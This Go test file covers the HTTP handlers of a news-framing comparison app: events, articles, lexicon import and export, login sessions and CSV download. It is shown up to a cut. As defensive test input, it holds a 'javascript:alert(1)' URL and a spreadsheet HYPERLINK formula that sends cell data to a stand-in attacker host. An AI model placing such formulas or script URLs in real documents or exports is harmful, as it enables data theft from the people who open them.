package handlers_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"

	"framelens/framing"
	"framelens/lexicons"
)

func TestHealthzAnswersOKWhileTheDatabaseAnswers(t *testing.T) {
	ts := newTestServer(t)
	r := ts.get("/healthz").wantStatus(http.StatusOK)
	var got map[string]string
	r.decode(&got)
	if len(got) != 1 || got["status"] != "ok" {
		t.Errorf("healthz = %s, want {\"status\":\"ok\"}", r.Body)
	}
}

func TestHealthzAnswers503UnavailableOnceTheDatabaseIsClosed(t *testing.T) {
	ts := newTestServer(t)
	ts.Store.Close()
	r := ts.get("/healthz").wantStatus(http.StatusServiceUnavailable)
	var got map[string]string
	r.decode(&got)
	if len(got) != 1 || got["status"] != "unavailable" {
		t.Errorf("healthz = %s, want {\"status\":\"unavailable\"}", r.Body)
	}
}

func TestListingEventsWhenThereAreNoneGivesAnEmptyArrayNotNull(t *testing.T) {
	ts := newTestServer(t)
	r := ts.get("/api/events").wantStatus(http.StatusOK)
	if strings.TrimSpace(r.Body) != `{"events":[]}` {
		t.Errorf("empty list = %s, want {\"events\":[]}", r.Body)
	}
}

func TestListingEventsGivesEachEventsArticleCountAndOutletsInTheOrderTheyWereAdded(t *testing.T) {
	ts := newTestServer(t)
	older := ts.createEvent("Older event", "2021-01-02", "")
	newer := ts.createEvent("Newer event", "2022-09-07", "About the meeting.")
	ts.addArticle(newer, validArticle("Asbarez", "One", "The leaders met in Northburg on Wednesday morning."))
	ts.addArticle(newer, validArticle("Anadolu Agency", "Two", "The two leaders met in Southville on Wednesday."))
	// Same outlet again, written differently: one outlet, two articles.
	ts.addArticle(newer, validArticle("  asbarez ", "Three", "A third text about the leaders meeting in the city."))

	var got struct {
		Events []struct {
			ID          int64    `json:"id"`
			Title       string   `json:"title"`
			Description string   `json:"description"`
			Date        string   `json:"date"`
			Articles    int      `json:"articles"`
			Outlets     []string `json:"outlets"`
		} `json:"events"`
	}
	r := ts.get("/api/events").wantStatus(http.StatusOK)
	r.decode(&got)
	if len(got.Events) != 2 {
		t.Fatalf("got %d events, want 2: %s", len(got.Events), r.Body)
	}
	first, second := got.Events[0], got.Events[1]
	if first.ID != newer || first.Title != "Newer event" || first.Date != "2022-09-07" || first.Description != "About the meeting." {
		t.Errorf("first event = %+v, want the newer event first", first)
	}
	if first.Articles != 3 {
		t.Errorf("newer event has %d articles, want 3", first.Articles)
	}
	if strings.Join(first.Outlets, "|") != "Asbarez|Anadolu Agency" {
		t.Errorf("newer event outlets = %q, want Asbarez then Anadolu Agency, once each", first.Outlets)
	}
	if second.ID != older || second.Articles != 0 {
		t.Errorf("second event = %+v, want the older event with 0 articles", second)
	}
	if second.Outlets == nil || len(second.Outlets) != 0 || !strings.Contains(r.Body, `"outlets":[]`) {
		t.Errorf("an event without articles must list outlets as [], got %s", r.Body)
	}
}

func TestCreatingAnEventAnswers201WithItsLocationAndID(t *testing.T) {
	ts := newTestServer(t)
	r := ts.postJSON("/api/events", `{"title":"  Leaders meet  ","date":"2022-09-07","description":"In Vladivostok.","unknown":true}`).
		wantStatus(http.StatusCreated)
	var ev createdEvent
	r.decode(&ev)
	if ev.ID <= 0 || ev.Title != "Leaders meet" || ev.Date != "2022-09-07" || ev.Description != "In Vladivostok." {
		t.Errorf("created event = %+v, want the trimmed title, the date and the description", ev)
	}
	if loc := r.Header.Get("Location"); loc != eventPath(ev.ID) {
		t.Fatalf("Location = %q, want %q", loc, eventPath(ev.ID))
	}
	if got := ts.eventDetail(ev.ID); got.Title != "Leaders meet" {
		t.Errorf("the event at Location has title %q", got.Title)
	}
}

func TestCreatingAnEventWithInvalidFieldsAnswers422NamingTheField(t *testing.T) {
	tests := []struct {
		name, body, field string
	}{
		{"missing title", `{"date":"2022-09-07"}`, "title"},
		{"blank title", `{"title":"   "}`, "title"},
		{"title too long", `{"title":"` + strings.Repeat("t", framing.MaxTitleChars+1) + `"}`, "title"},
		{"title with NUL", `{"title":"a\u0000b"}`, "title"},
		{"date not a date", `{"title":"T","date":"yesterday"}`, "date"},
		{"implausible date", `{"title":"T","date":"1700-01-01"}`, "date"},
		{"description too long", `{"title":"T","description":"` + strings.Repeat("d", framing.MaxDescriptionChars+1) + `"}`, "description"},
		{"null body", `null`, "title"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ts := newTestServer(t)
			ts.postJSON("/api/events", tt.body).wantAPIError(http.StatusUnprocessableEntity, tt.field)
			if r := ts.get("/api/events"); strings.TrimSpace(r.Body) != `{"events":[]}` {
				t.Errorf("a refused event was stored: %s", r.Body)
			}
		})
	}
}

func TestCreatingAnEventWithABodyThatIsNotOneJSONObjectAnswers400(t *testing.T) {
	tests := []struct {
		name, body, field string
	}{
		{"malformed JSON", `{"title": "T"`, ""},
		{"syntax error", `{"title" "T"}`, ""},
		{"empty body", ``, ""},
		{"only whitespace", " \n\t ", ""},
		{"invalid UTF-8", "{\"title\": \"\xff\xfe\"}", ""},
		{"title is a number", `{"title": 5}`, "title"},
		{"date is an object", `{"title": "T", "date": {"y": 2022}}`, "date"},
		{"an array", `[{"title": "T"}]`, ""},
		{"a string", `"T"`, ""},
		{"two objects", `{"title": "A"} {"title": "B"}`, ""},
		{"form encoded", `title=T`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ts := newTestServer(t)
			ts.postJSON("/api/events", tt.body).wantAPIError(http.StatusBadRequest, tt.field)
			if r := ts.get("/api/events"); strings.TrimSpace(r.Body) != `{"events":[]}` {
				t.Errorf("an unreadable request stored an event: %s", r.Body)
			}
		})
	}
}

func TestCreatingAnEventWithTrailingGarbageAfterTheObjectAnswers400(t *testing.T) {

	for _, body := range []string{`{"title": "A"}}`, `{"title": "A"}]`} {
		ts := newTestServer(t)
		ts.postJSON("/api/events", body).wantAPIError(http.StatusBadRequest, "")
	}
}

func TestCreatingAnEventWithABodyOver8MiBAnswers413JSON(t *testing.T) {
	ts := newTestServer(t)
	body := `{"title":"` + strings.Repeat("x", 8<<20) + `"}`
	e := ts.postJSON("/api/events", body).wantAPIError(http.StatusRequestEntityTooLarge, "")
	if !strings.Contains(e.Error, "8 MB") {
		t.Errorf("413 message %q does not name the limit", e.Error)
	}
	if r := ts.get("/api/events"); strings.TrimSpace(r.Body) != `{"events":[]}` {
		t.Errorf("an oversized request stored an event: %s", r.Body)
	}
}

func TestGettingAnEventWithoutArticlesGivesAnEmptyArticlesArray(t *testing.T) {
	ts := newTestServer(t)
	id := ts.createEvent("Nothing yet", "", "")
	r := ts.get(eventPath(id)).wantStatus(http.StatusOK)
	if !strings.Contains(r.Body, `"articles":[]`) {
		t.Errorf("event without articles = %s, want \"articles\":[]", r.Body)
	}
	var ev eventDetail
	r.decode(&ev)
	if ev.ID != id || ev.Title != "Nothing yet" {
		t.Errorf("event = %+v", ev.createdEvent)
	}
}

func TestGettingAnEventListsItsArticlesInTheOrderAdded(t *testing.T) {
	ts := newTestServer(t)
	id := ts.createEvent("Meeting", "2022-09-07", "")
	other := ts.createEvent("Another event", "", "")
	a := ts.addArticle(id, validArticle("Asbarez", "First", "The leaders met in Northburg on Wednesday morning."))
	b := ts.addArticle(id, validArticle("Reuters", "Second", "The two leaders met in Southville on Wednesday."))
	ts.addArticle(other, validArticle("Elsewhere", "Other", "A text that belongs to another event entirely."))

	ev := ts.eventDetail(id)
	if len(ev.Articles) != 2 || ev.Articles[0].ID != a.ID || ev.Articles[1].ID != b.ID {
		t.Fatalf("articles = %+v, want %d then %d", ev.Articles, a.ID, b.ID)
	}
	got := ev.Articles[0]
	if got.Outlet != "Asbarez" || got.Headline != "First" || got.EventID != id || got.Language != "en" ||
		got.Body != "The leaders met in Northburg on Wednesday morning." || got.URL != "https://example.org/asbarez" {
		t.Errorf("first article = %+v", got)
	}
}

func TestGettingAMissingOrNonNumericEventAnswers404JSON(t *testing.T) {
	ts := newTestServer(t)
	ts.createEvent("The only event", "", "")
	for _, path := range []string{"/api/events/999", "/api/events/abc", "/api/events/0", "/api/events/-1",
		"/api/events/1.5", "/api/events/99999999999999999999"} {
		ts.get(path).wantAPIError(http.StatusNotFound, "")
	}
}

func TestAddingAnArticleAnswers201WithTheStoredArticle(t *testing.T) {
	ts := newTestServer(t)
	id := ts.createEvent("Meeting", "", "")
	body := `{"outlet":"  Anadolu   Agency ","headline":"Leaders meet","byline":"A. Writer","url":"https://example.org/a",
		"published":"2022-09-07","language":" EN ","illustrative":true,
		"body":"First paragraph about the leaders.\r\nSecond paragraph."}`
	r := ts.postJSON(eventPath(id)+"/articles", body).wantStatus(http.StatusCreated)
	var a storedArticle
	r.decode(&a)
	want := storedArticle{ID: a.ID, EventID: id, Outlet: "Anadolu Agency", Headline: "Leaders meet", Byline: "A. Writer",
		URL: "https://example.org/a", Published: "2022-09-07", Language: "en", Illustrative: true,
		Body: "First paragraph about the leaders.\nSecond paragraph."}
	if a.ID <= 0 || a != want {
		t.Errorf("article = %+v\nwant      %+v", a, want)
	}
	if loc := r.Header.Get("Location"); loc != eventPath(id) {
		t.Errorf("Location = %q, want %q", loc, eventPath(id))
	}
	if ev := ts.eventDetail(id); len(ev.Articles) != 1 || ev.Articles[0] != want {
		t.Errorf("stored articles = %+v", ev.Articles)
	}
}

func TestAddingAnArticleToAMissingEventAnswers404AndStoresNothing(t *testing.T) {
	ts := newTestServer(t)
	id := ts.createEvent("Meeting", "", "")
	good := articleJSON(validArticle("Phantom Outlet", "H", "The leaders met in Northburg on Wednesday."))
	for _, path := range []string{"/api/events/999/articles", "/api/events/abc/articles", "/api/events/0/articles"} {
		ts.postJSON(path, good).wantAPIError(http.StatusNotFound, "")
	}
	if ev := ts.eventDetail(id); len(ev.Articles) != 0 {
		t.Errorf("articles = %+v, want none", ev.Articles)
	}
	if strings.Contains(ts.get(pagePath(id)+"/articles/new").Body, "Phantom Outlet") {
		t.Error("the outlet of a refused article was remembered")
	}
}

func TestAddingAnInvalidArticleAnswers422NamingTheField(t *testing.T) {
	valid := validArticle("Asbarez", "Leaders meet", "The leaders met in Northburg on Wednesday.")
	tests := []struct {
		name  string
		edit  func(*framing.ArticleInput)
		field string
	}{
		{"no outlet", func(a *framing.ArticleInput) { a.Outlet = " " }, "outlet"},
		{"outlet too long", func(a *framing.ArticleInput) { a.Outlet = strings.Repeat("o", framing.MaxOutletChars+1) }, "outlet"},
		{"no headline", func(a *framing.ArticleInput) { a.Headline = "" }, "headline"},
		{"byline too long", func(a *framing.ArticleInput) { a.Byline = strings.Repeat("b", framing.MaxBylineChars+1) }, "byline"},
		{"URL without scheme", func(a *framing.ArticleInput) { a.URL = "example.org/a" }, "url"},
		{"javascript URL", func(a *framing.ArticleInput) { a.URL = "javascript:alert(1)" }, "url"},
		{"published not a date", func(a *framing.ArticleInput) { a.Published = "7 Sept 2022" }, "published"},
		{"no language", func(a *framing.ArticleInput) { a.Language = "" }, "language"},
		{"bad language", func(a *framing.ArticleInput) { a.Language = "english!" }, "language"},
		{"empty body", func(a *framing.ArticleInput) { a.Body = "  " }, "body"},
		{"body too short", func(a *framing.ArticleInput) { a.Body = "Too short." }, "body"},
		{"several problems name the first", func(a *framing.ArticleInput) { a.Headline, a.Body = "", "" }, "headline"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ts := newTestServer(t)
			id := ts.createEvent("Meeting", "", "")
			in := valid
			tt.edit(&in)
			ts.postJSON(eventPath(id)+"/articles", articleJSON(in)).wantAPIError(http.StatusUnprocessableEntity, tt.field)
			if ev := ts.eventDetail(id); len(ev.Articles) != 0 {
				t.Errorf("a refused article was stored: %+v", ev.Articles)
			}
		})
	}
}

func TestAddingAnArticleWithAnUnreadableBodyAnswers400(t *testing.T) {
	tests := []struct {
		name, body, field string
	}{
		{"malformed", `{"outlet": "A",`, ""},
		{"empty", ``, ""},
		{"invalid UTF-8", "{\"outlet\": \"\xc3\x28\"}", ""},
		{"outlet is an array", `{"outlet": ["A"]}`, "outlet"},
		{"illustrative is a string", `{"illustrative": "yes"}`, "illustrative"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ts := newTestServer(t)
			id := ts.createEvent("Meeting", "", "")
			ts.postJSON(eventPath(id)+"/articles", tt.body).wantAPIError(http.StatusBadRequest, tt.field)
			if ev := ts.eventDetail(id); len(ev.Articles) != 0 {
				t.Errorf("an unreadable request stored an article: %+v", ev.Articles)
			}
		})
	}
}

func TestAddingTheSameTextTwiceToAnEventAnswers409OnTheBodyField(t *testing.T) {
	ts := newTestServer(t)
	id := ts.createEvent("Meeting", "", "")
	first := ts.addArticle(id, validArticle("Asbarez", "One", "The leaders met in Northburg on Wednesday."))
	// The same text with other spacing and case, from an outlet never seen.
	again := validArticle("Phantom Outlet", "Two", "  the LEADERS met in\n\nNorthburg   on Wednesday.  ")
	e := ts.postJSON(eventPath(id)+"/articles", articleJSON(again)).wantAPIError(http.StatusConflict, "body")
	if !strings.Contains(e.Error, "already") {
		t.Errorf("409 message %q does not say the text is already there", e.Error)
	}
	ev := ts.eventDetail(id)
	if len(ev.Articles) != 1 || ev.Articles[0].ID != first.ID {
		t.Errorf("articles after the duplicate = %+v", ev.Articles)
	}
	if strings.Contains(ts.get(pagePath(id)+"/articles/new").Body, "Phantom Outlet") {
		t.Error("the outlet of the refused duplicate was remembered: the article and its outlet did not roll back together")
	}
	// The same text may be in another event.
	other := ts.createEvent("Another event", "", "")
	ts.addArticle(other, validArticle("Asbarez", "One", "The leaders met in Northburg on Wednesday."))
}

func TestAddingAnArticleOver2MiBInARequestUnder8MiBAnswers413OnTheBodyField(t *testing.T) {
	ts := newTestServer(t)
	id := ts.createEvent("Meeting", "", "")
	in := validArticle("Asbarez", "Long", strings.Repeat("a", framing.MaxBodyBytes+1))
	body := articleJSON(in)
	if len(body) >= 8<<20 {
		t.Fatalf("the request is %d bytes; it must be under 8 MiB", len(body))
	}
	e := ts.postJSON(eventPath(id)+"/articles", body).wantAPIError(http.StatusRequestEntityTooLarge, "body")
	if !strings.Contains(e.Error, "2 MB") {
		t.Errorf("413 message %q does not name the 2 MB limit", e.Error)
	}
	// Exactly at the limit is accepted.
	ts.addArticle(id, validArticle("Asbarez", "At the limit", strings.Repeat("b", framing.MaxBodyBytes)))
	if ev := ts.eventDetail(id); len(ev.Articles) != 1 || ev.Articles[0].Headline != "At the limit" {
		t.Errorf("articles = %d, want only the one at the limit", len(ev.Articles))
	}
}

func TestNothingIsStoredAfterAnyRefusedArticle(t *testing.T) {
	ts := newTestServer(t)
	id := ts.createEvent("Meeting", "", "")
	kept := ts.addArticle(id, validArticle("Asbarez", "Kept", "The leaders met in Northburg on Wednesday."))
	path := eventPath(id) + "/articles"
	ts.postJSON(path, articleJSON(validArticle("A", "", "A body long enough to be an article text."))).wantStatus(http.StatusUnprocessableEntity)
	ts.postJSON(path, `{"outlet": 1}`).wantStatus(http.StatusBadRequest)
	ts.postJSON(path, articleJSON(validArticle("B", "Dup", kept.Body))).wantStatus(http.StatusConflict)
	ts.postJSON(path, articleJSON(validArticle("C", "Big", strings.Repeat("c", framing.MaxBodyBytes+1)))).wantStatus(http.StatusRequestEntityTooLarge)
	ts.postJSON(path, `{"body":"`+strings.Repeat("d", 8<<20)+`"}`).wantStatus(http.StatusRequestEntityTooLarge)

	ev := ts.eventDetail(id)
	if len(ev.Articles) != 1 || ev.Articles[0].ID != kept.ID {
		t.Errorf("articles = %+v, want only %d", ev.Articles, kept.ID)
	}
	var list struct {
		Events []struct {
			Articles int      `json:"articles"`
			Outlets  []string `json:"outlets"`
		} `json:"events"`
	}
	ts.get("/api/events").wantStatus(http.StatusOK).decode(&list)
	if len(list.Events) != 1 || list.Events[0].Articles != 1 || strings.Join(list.Events[0].Outlets, ",") != "Asbarez" {
		t.Errorf("event list = %+v", list.Events)
	}
}

type comparisonJSON struct {
	Event    struct{ ID int64 } `json:"event"`
	Articles []struct {
		ID     int64  `json:"id"`
		Outlet string `json:"outlet"`
	} `json:"articles"`
	Rows []struct {
		Concept string `json:"concept"`
		Differs bool   `json:"differs"`
		Cells   []struct {
			ArticleID int64 `json:"article_id"`
			Terms     []struct {
				Term        string `json:"term"`
				Perspective string `json:"perspective"`
				Count       int    `json:"count"`
			} `json:"terms"`
		} `json:"cells"`
	} `json:"rows"`
}

func TestTheComparisonPutsEachArticlesWordingForAConceptSideBySide(t *testing.T) {
	ts := newTestServer(t)
	ts.seedLexicon()
	id := ts.createEvent("Meeting", "", "")
	north := ts.addArticle(id, validArticle("North Post", "N", "Leaders met in Northburg. Northburg was calm."))
	south := ts.addArticle(id, validArticle("South Daily", "S", "Leaders met in Southville on Wednesday."))

	var c comparisonJSON
	ts.get(eventPath(id) + "/comparison").wantStatus(http.StatusOK).decode(&c)
	if c.Event.ID != id || len(c.Articles) != 2 || c.Articles[0].ID != north.ID || c.Articles[1].ID != south.ID {
		t.Fatalf("comparison event/articles = %+v %+v", c.Event, c.Articles)
	}
	if len(c.Rows) != 1 {
		t.Fatalf("rows = %+v, want one row for the main city", c.Rows)
	}
	row := c.Rows[0]
	if row.Concept != "The main city" || !row.Differs || len(row.Cells) != 2 {
		t.Fatalf("row = %+v", row)
	}
	n, s := row.Cells[0], row.Cells[1]
	if n.ArticleID != north.ID || len(n.Terms) != 1 || n.Terms[0].Term != "Northburg" || n.Terms[0].Count != 2 || n.Terms[0].Perspective != "Northern usage" {
		t.Errorf("north cell = %+v", n)
	}
	if s.ArticleID != south.ID || len(s.Terms) != 1 || s.Terms[0].Term != "Southville" || s.Terms[0].Count != 1 {
		t.Errorf("south cell = %+v", s)
	}
}

func TestTheComparisonOfAnEventWithoutArticlesHasEmptyArraysAndAMissingEventIs404(t *testing.T) {
	ts := newTestServer(t)
	ts.seedLexicon()
	id := ts.createEvent("Empty", "", "")
	r := ts.get(eventPath(id) + "/comparison").wantStatus(http.StatusOK)
	if !strings.Contains(r.Body, `"articles":[]`) || !strings.Contains(r.Body, `"rows":[]`) {
		t.Errorf("empty comparison = %s, want empty arrays", r.Body)
	}
	for _, path := range []string{"/api/events/999/comparison", "/api/events/x/comparison"} {
		ts.get(path).wantAPIError(http.StatusNotFound, "")
	}
}

func TestAnalyzeFindsTheLexiconsWordingsWithByteOffsets(t *testing.T) {
	ts := newTestServer(t)
	ts.seedLexicon()
	text := `Über die Brücke: they reached Southville. "We stay in Northburg," he said.`
	body, _ := json.Marshal(map[string]string{"text": text, "language": "en"})
	var got struct {
		Matches []struct {
			Start, End  int
			Surface     string
			Term        string
			Concept     string
			Perspective string
			Voice       string
			Sentence    int
		} `json:"matches"`
		Sentences []struct{ Start, End int } `json:"sentences"`
	}
	ts.postJSON("/api/analyze", string(body)).wantStatus(http.StatusOK).decode(&got)
	if len(got.Matches) != 2 {
		t.Fatalf("matches = %+v, want Southville and Northburg", got.Matches)
	}
	for i, want := range []struct{ term, persp, voice string }{{"Southville", "Southern usage", "own"}, {"Northburg", "Northern usage", "quoted"}} {
		m := got.Matches[i]
		if text[m.Start:m.End] != m.Surface || m.Term != want.term || m.Concept != "The main city" || m.Perspective != want.persp || m.Voice != want.voice {
			t.Errorf("match %d = %+v, want %+v", i, m, want)
		}
	}
	if len(got.Sentences) != 2 {
		t.Errorf("sentences = %+v, want 2", got.Sentences)
	}
}

func TestAnalyzeRefusesMissingTextBadLanguageAndUnreadableBodies(t *testing.T) {
	ts := newTestServer(t)
	tests := []struct {
		body   string
		status int
		field  string
	}{
		{`{"text": ""}`, http.StatusUnprocessableEntity, "text"},
		{`{"text": "Northburg", "language": "klingon-!"}`, http.StatusUnprocessableEntity, "language"},
		{`{"text": ["a"]}`, http.StatusBadRequest, "text"},
		{`{"text": `, http.StatusBadRequest, ""},
		{``, http.StatusBadRequest, ""},
		{`{"text":"` + strings.Repeat("a", framing.MaxBodyBytes+1) + `"}`, http.StatusRequestEntityTooLarge, "text"},
	}
	for _, tt := range tests {
		ts.postJSON("/api/analyze", tt.body).wantAPIError(tt.status, tt.field)
	}
	r := ts.postJSON("/api/analyze", `{"text": "Nothing to find here."}`).wantStatus(http.StatusOK)
	if !strings.Contains(r.Body, `"matches":[]`) {
		t.Errorf("a text without matches = %s, want \"matches\":[]", r.Body)
	}
}

type lexiconSummary struct {
	ID       int64  `json:"id"`
	Slug     string `json:"slug"`
	Name     string `json:"name"`
	Language string `json:"language"`
	Version  int64  `json:"version"`
	Concepts int    `json:"concepts"`
	Terms    int    `json:"terms"`
}

func TestTheLexiconListIsEmptyThenCountsConceptsAndTerms(t *testing.T) {
	ts := newTestServer(t)
	if r := ts.get("/api/lexicons").wantStatus(http.StatusOK); strings.TrimSpace(r.Body) != `{"lexicons":[]}` {
		t.Errorf("empty lexicon list = %s", r.Body)
	}
	lex := ts.seedLexicon()
	var got struct {
		Lexicons []lexiconSummary `json:"lexicons"`
	}
	ts.get("/api/lexicons").wantStatus(http.StatusOK).decode(&got)
	want := lexiconSummary{ID: lex.ID, Slug: "test-cities", Name: "Test cities", Language: "en", Version: lex.Version, Concepts: 2, Terms: 3}
	if len(got.Lexicons) != 1 || got.Lexicons[0] != want {
		t.Errorf("lexicons = %+v, want %+v", got.Lexicons, want)
	}
}

func TestALexiconExportsAsJSONOrCSVAsAnAttachment(t *testing.T) {
	ts := newTestServer(t)
	lex := ts.seedLexicon()
	for _, tt := range []struct{ query, contentType, file, contains string }{
		{"", "application/json", "test-cities.json", `"slug": "test-cities"`},
		{"?format=json", "application/json", "test-cities.json", `"phrase": "Northburg"`},
		{"?format=csv", "text/csv", "test-cities.csv", "term,,,,en,,,Southville,south,word"},
	} {
		r := ts.get("/api/lexicons/" + id64(lex.ID) + "/export" + tt.query).wantStatus(http.StatusOK)
		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, tt.contentType) {
			t.Errorf("export%s: Content-Type %q, want %s", tt.query, ct, tt.contentType)
		}
		if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="`+tt.file+`"` {
			t.Errorf("export%s: Content-Disposition %q", tt.query, cd)
		}
		if !strings.Contains(r.Body, tt.contains) {
			t.Errorf("export%s lacks %q: %.300s", tt.query, tt.contains, r.Body)
		}
	}
}

func TestExportingAMissingLexiconIs404AndAnUnknownFormatIs400(t *testing.T) {
	ts := newTestServer(t)
	lex := ts.seedLexicon()
	ts.get("/api/lexicons/999/export").wantAPIError(http.StatusNotFound, "")
	ts.get("/api/lexicons/abc/export").wantAPIError(http.StatusNotFound, "")
	ts.get("/api/lexicons/"+id64(lex.ID)+"/export?format=xml").wantAPIError(http.StatusBadRequest, "format")
}

func exportOf(t *testing.T, lex framing.Lexicon, format string) []byte {
	t.Helper()
	var data []byte
	var err error
	if format == "csv" {
		data, err = lexicons.ExportCSV(lex)
	} else {
		data, err = lexicons.ExportJSON(lex)
	}
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestImportingALexiconNeedsALogin(t *testing.T) {
	ts := newTestServer(t)
	data := exportOf(t, testLexicon(), "json")
	ts.do(http.MethodPost, "/api/lexicons/import", "application/json", bytes.NewReader(data)).wantAPIError(http.StatusUnauthorized, "")
	if r := ts.get("/api/lexicons"); strings.TrimSpace(r.Body) != `{"lexicons":[]}` {
		t.Errorf("an anonymous import was stored: %s", r.Body)
	}
}

func TestImportingALexiconAsJSONOrCSVAnswers201WithItsLocation(t *testing.T) {
	for _, tt := range []struct {
		name, format, contentType, query string
	}{
		{"json body", "json", "application/json", ""},
		{"csv by content type", "csv", "text/csv", ""},
		{"csv by query", "csv", "application/octet-stream", "?format=csv"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ts := newTestServer(t).loggedInAs("teacher", framing.RoleTeacher)
			r := ts.do(http.MethodPost, "/api/lexicons/import"+tt.query, tt.contentType, bytes.NewReader(exportOf(t, testLexicon(), tt.format))).
				wantStatus(http.StatusCreated)
			var got lexiconSummary
			r.decode(&got)
			if got.ID == 0 || got.Slug != "test-cities" || got.Concepts != 2 || got.Terms != 3 {
				t.Errorf("imported = %+v", got)
			}
			if loc := r.Header.Get("Location"); loc != "/api/lexicons/"+id64(got.ID)+"/export" {
				t.Errorf("Location = %q", loc)
			}
			if lex := ts.lexicon(got.ID); lex.TermCount() != 3 {
				t.Errorf("stored lexicon has %d terms", lex.TermCount())
			}
		})
	}
}

func TestImportingALexiconAsAMultipartFileUsesTheFileNameForTheFormat(t *testing.T) {
	ts := newTestServer(t).loggedInAs("teacher", framing.RoleTeacher)
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, _ := mw.CreateFormFile("file", "cities.CSV")
	fw.Write(exportOf(t, testLexicon(), "csv"))
	mw.Close()
	ts.do(http.MethodPost, "/api/lexicons/import", mw.FormDataContentType(), &buf).wantStatus(http.StatusCreated)

	buf.Reset()
	mw = multipart.NewWriter(&buf)
	mw.WriteField("other", "x")
	mw.Close()
	ts.do(http.MethodPost, "/api/lexicons/import", mw.FormDataContentType(), &buf).wantAPIError(http.StatusBadRequest, "file")
}

func TestImportingABadLexiconIsRefusedWholeWithTheRightStatus(t *testing.T) {
	ts := newTestServer(t).loggedInAs("teacher", framing.RoleTeacher)
	ts.seedLexicon()
	noSource := testLexicon()
	noSource.Slug = "no-source"
	noSource.Concepts[1].Terms[0].SourceURL = ""
	tests := []struct {
		name, query, contentType string
		body                     []byte
		status                   int
		field                    string
	}{
		{"same slug as a stored lexicon", "", "application/json", exportOf(t, testLexicon(), "json"), http.StatusConflict, "slug"},
		{"a term without a source", "", "application/json", exportOf(t, noSource, "json"), http.StatusUnprocessableEntity, "file"},
		{"not JSON", "", "application/json", []byte(`{"slug": `), http.StatusUnprocessableEntity, "file"},
		{"empty file", "", "application/json", nil, http.StatusUnprocessableEntity, "file"},
		{"not CSV", "?format=csv", "text/plain", []byte("kind,slug\n\"unclosed"), http.StatusUnprocessableEntity, "file"},
		{"unknown format", "?format=xml", "application/xml", []byte(`<lexicon/>`), http.StatusBadRequest, "format"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ts.do(http.MethodPost, "/api/lexicons/import"+tt.query, tt.contentType, bytes.NewReader(tt.body)).wantAPIError(tt.status, tt.field)
		})
	}
	var got struct {
		Lexicons []lexiconSummary `json:"lexicons"`
	}
	ts.get("/api/lexicons").wantStatus(http.StatusOK).decode(&got)
	if len(got.Lexicons) != 1 {
		t.Errorf("after refused imports there are %d lexicons, want 1", len(got.Lexicons))
	}
}

func TestAPILoginStartsASessionAndAPILogoutEndsIt(t *testing.T) {
	ts := newTestServer(t)
	ts.addAccount("teacher", framing.RoleTeacher)

	wrong := ts.postJSON("/api/login", `{"username":"teacher","password":"not the password"}`).wantAPIError(http.StatusUnauthorized, "")
	unknown := ts.postJSON("/api/login", `{"username":"nobody","password":"not the password"}`).wantAPIError(http.StatusUnauthorized, "")
	if wrong.Error != unknown.Error {
		t.Errorf("a wrong password (%q) and an unknown user (%q) are told apart", wrong.Error, unknown.Error)
	}
	ts.postJSON("/api/login", `{"username": 1}`).wantAPIError(http.StatusBadRequest, "username")
	ts.postJSON("/api/login", ``).wantAPIError(http.StatusBadRequest, "")

	r := ts.postJSON("/api/login", `{"username":" teacher ","password":"`+accountPassword+`"}`).wantStatus(http.StatusOK)
	var who map[string]string
	r.decode(&who)
	if who["username"] != "teacher" || who["role"] != framing.RoleTeacher {
		t.Errorf("login answer = %s", r.Body)
	}
	cookie := findCookie(r.Header, "framelens_session")
	if cookie == nil || cookie.Value == "" || !cookie.HttpOnly || cookie.SameSite != http.SameSiteLaxMode {
		t.Fatalf("session cookie = %+v", cookie)
	}
	data := exportOf(t, testLexicon(), "json")
	ts.do(http.MethodPost, "/api/lexicons/import", "application/json", bytes.NewReader(data)).wantStatus(http.StatusCreated)

	r = ts.do(http.MethodPost, "/api/logout", "", nil).wantStatus(http.StatusNoContent)
	if c := findCookie(r.Header, "framelens_session"); c == nil || c.MaxAge >= 0 {
		t.Errorf("logout does not clear the cookie: %+v", c)
	}
	other := testLexicon()
	other.Slug = "other"
	ts.do(http.MethodPost, "/api/lexicons/import", "application/json", bytes.NewReader(exportOf(t, other, "json"))).
		wantAPIError(http.StatusUnauthorized, "")
	// Logging out without a session is harmless.
	ts.withNewBrowser().do(http.MethodPost, "/api/logout", "", nil).wantStatus(http.StatusNoContent)
}

func findCookie(h http.Header, name string) *http.Cookie {
	for _, c := range (&http.Response{Header: h}).Cookies() {
		if c.Name == name {
			return c
		}
	}
	return nil
}

func TestTheComparisonDownloadsAsCSVWithOneLinePerTermAndItsOwnCount(t *testing.T) {
	ts := newTestServer(t)
	ts.seedLexicon()
	id := ts.createEvent("Meeting", "", "")
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	north := ts.addArticle(id, validArticle(formula, "N", "Leaders met in Northburg. Northburg was calm, Southville too."))
	south := ts.addArticle(id, validArticle("South, Daily", "S", "Leaders met in Southville on Wednesday."))

	r := ts.get(eventPath(id) + "/comparison?format=csv").wantStatus(http.StatusOK)
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("Content-Type = %q", ct)
	}
	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="event-`+id64(id)+`-comparison.csv"` {
		t.Errorf("Content-Disposition = %q", cd)
	}
	body, ok := strings.CutPrefix(r.Body, "\ufeff")
	if !ok {
		t.Error("the CSV does not start with a UTF-8 byte-order mark")
	}
	lines, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, r.Body)
	}
	if len(lines) != 4 || strings.Join(lines[0][:10], ",") != "concept_id,concept,category,lexicon,differs,article_id,outlet,term,perspective,count" {
		t.Fatalf("CSV = %q", lines)
	}
